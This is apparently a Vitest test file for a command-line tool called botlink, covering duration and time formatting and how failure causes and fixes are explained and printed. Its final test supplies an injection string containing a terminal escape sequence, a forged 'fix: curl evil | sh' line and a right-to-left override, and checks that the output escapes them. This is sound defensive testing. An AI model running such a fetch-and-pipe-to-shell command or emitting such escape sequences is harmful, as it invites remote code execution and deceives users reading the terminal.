import { describe, expect, it } from 'vitest';
import { CloudError } from '../../../src/cloud/errors.js';
import { ClockNotTrustedError } from '../../../src/agent/time/signingtime.js';
import {
  explainFailure,
  failureLines,
  formatAgo,
  formatDuration,
  formatFailure,
  formatLeft,
  formatOffset,
  formatTime,
  type FailureContext,
} from '../../../src/cli/format.js';
import { BotlinkError } from '../../../src/protocol/errors.js';
import { S, MIN, H, D } from '../../helpers/time.js';

describe('formatDuration', () => {
  it.each([
    [0, '0s'],
    [999, '0s'],
    [45 * S, '45s'],
    [4 * MIN + 10 * S + 900, '4m 10s'],
    [5 * MIN, '5m'],
    [H + 59 * MIN + 59 * S, '1h 59m'],
    [2 * H, '2h'],
    [6 * D + 23 * H + 59 * MIN, '6d 23h'],
    [7 * D, '7d'],
    [-(3 * MIN + 10 * S), '3m 10s'],
  ])('%i ms → %s', (ms, text) => {
    expect(formatDuration(ms)).toBe(text);
  });
});

describe('relative times', () => {
  it('says ago, left and expired', () => {
    expect(formatAgo(3 * MIN)).toBe('3m ago');
    expect(formatAgo(400)).toBe('just now');
    expect(formatLeft(1_000_000 + H + 59 * MIN, 1_000_000)).toBe('1h 59m left');
    expect(formatLeft(1_000_000, 1_000_000 + 3 * MIN)).toBe('expired 3m ago');
    expect(formatLeft(1_000_000, 1_000_000)).toBe('expired just now');
  });

  it('prints UTC to the second and offsets with their sign', () => {
    expect(formatTime(Date.UTC(2025, 0, 31, 12, 0, 5, 678))).toBe('2025-01-31 12:00:05Z');
    expect(formatOffset(12.4)).toBe('+12 ms');
    expect(formatOffset(-999)).toBe('-999 ms');
    expect(formatOffset(-1500)).toBe('-1.5 s');
    expect(formatOffset(0)).toBe('+0 ms');
  });
});

describe('explainFailure', () => {
  const ctx: FailureContext = {
    baseUrl: 'https://api.example.com',
    accessKeyId: 'AK',
    secretKeyFile: '/etc/botlink/secret-key',
    identity: { kind: 'vendor', id: 'V1' },
  };
  const cloud = (code: number) =>
    new CloudError(`ERR_CLOUD_${code}`, `getToken refused with code ${code}`, 'needs-config', { serviceCode: code });

  it('names the secret-key file and accessKeyId for a refused signature', () => {
    const { cause, fix } = explainFailure(cloud(1005), ctx);
    expect(cause).toBe('getToken refused with code 1005');
    expect(fix).toContain('secret-key file (/etc/botlink/secret-key)');
    expect(fix).toContain('accessKeyId "AK"');
  });

  it('points at the clock for 1003 and for an untrusted clock', () => {
    expect(explainFailure(cloud(1003), ctx).fix).toMatch(/clock .*NTP/);
    expect(explainFailure(new ClockNotTrustedError(), ctx).fix).toMatch(/clock .*NTP/);
  });

  it('says which id is unknown for 1004', () => {
    expect(explainFailure(cloud(1004), ctx).fix).toContain('vendorId "V1" not known under this access key');
    expect(explainFailure(cloud(1004), { ...ctx, identity: { kind: 'bot', id: 'bot-9' } }).fix).toContain('botId "bot-9"');
  });

  it('sends network failures to baseUrl', () => {
    for (const code of ['ERR_NETWORK', 'ERR_DNS', 'ERR_TIMEOUT', 'ERR_DEADLINE', 'ERR_HTTP_STATUS'] as const) {
      expect(explainFailure(new BotlinkError(code, 'x', 'retry-backoff'), ctx).fix).toContain(
        'cannot reach baseUrl https://api.example.com',
      );
    }
  });

  it('else gives the fix the error carries, or none, and keeps the message of anything thrown', () => {
    const code = 'ERR_STORE_ACCESS';
    expect(explainFailure(new BotlinkError(code, 'cannot use the store', 'needs-config', { fix: 'chown it' }), ctx)).toEqual({
      cause: 'cannot use the store',
      fix: 'chown it',
    });
    expect(explainFailure(new BotlinkError(code, 'cannot use the store', 'needs-config'), ctx)).toEqual({
      cause: 'cannot use the store',
      fix: undefined,
    });
    expect(explainFailure('plain', ctx)).toEqual({ cause: 'plain', fix: undefined });
  });

  it('prefers what the command knows to the fix the error carries', () => {
    const refused = new CloudError('ERR_CLOUD_1005', 'getToken refused with code 1005', 'needs-config', {
      serviceCode: 1005,
      fix: 'check the secret',
    });
    expect(explainFailure(refused, ctx).fix).toContain('secret-key file (/etc/botlink/secret-key)');
  });
});

describe('failureLines', () => {
  it('prints the cause, and the fix on a line of its own only when there is one', () => {
    expect(failureLines('botlink token', 'no token', 'start the daemon')).toBe('botlink token: no token\n  fix: start the daemon\n');
    expect(failureLines('botlink token', 'no token', undefined)).toBe('botlink token: no token\n');
    expect(formatFailure('botlink', new BotlinkError('ERR_CONFIG', 'baseUrl is required', 'needs-config', { fix: 'set it' }))).toBe(
      'botlink: baseUrl is required\n  fix: set it\n',
    );
    expect(formatFailure('botlink', new Error('boom'))).toBe('botlink: boom\n');
  });

  it('a cause or fix quoting the cloud is printable, one line each: no escape sequence, no forged fix line', () => {
    expect(failureLines('botlink chat', 'the cloud answered 500: x\x1b]0;PWNED\x07\n  fix: curl evil | sh', 'see \u202eit')).toBe(
      'botlink chat: the cloud answered 500: x\\x1b]0;PWNED\\x07\\x0a  fix: curl evil | sh\n  fix: see \\u202eit\n',
    );
  });
});
